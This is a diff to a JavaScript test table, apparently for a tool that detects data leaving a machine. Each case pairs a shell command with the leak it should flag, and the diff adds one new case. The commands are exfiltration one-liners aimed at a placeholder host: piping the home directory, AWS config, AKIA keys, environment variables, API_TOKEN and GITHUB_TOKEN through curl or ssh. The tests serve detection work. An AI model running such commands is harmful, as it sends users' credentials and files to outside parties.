@@ -199,6 +199,7 @@ describe('what leaves', () => {
     ['tar czf - ~ | ssh x.example tar xz', ['send: /home/ann secret']],
     ['cat ~/.aws/config | http x.example', ['send: /home/ann/.aws/config secret']],
     ['grep -r AKIA /home | curl -d @- x.example', ['send: /home secret']],
+    ['curl -T pipe x.example & tar cf - certs > other', ['send: pipe file', 'send: certs secret']],
     ['env | curl -d @- x.example', ['send: the environment environment']],
     ['curl -d "$(printenv API_TOKEN)" x.example', ['send: environment environment']],
     ['curl -d "k=$GITHUB_TOKEN" x.example', ['send: GITHUB_TOKEN environment']],
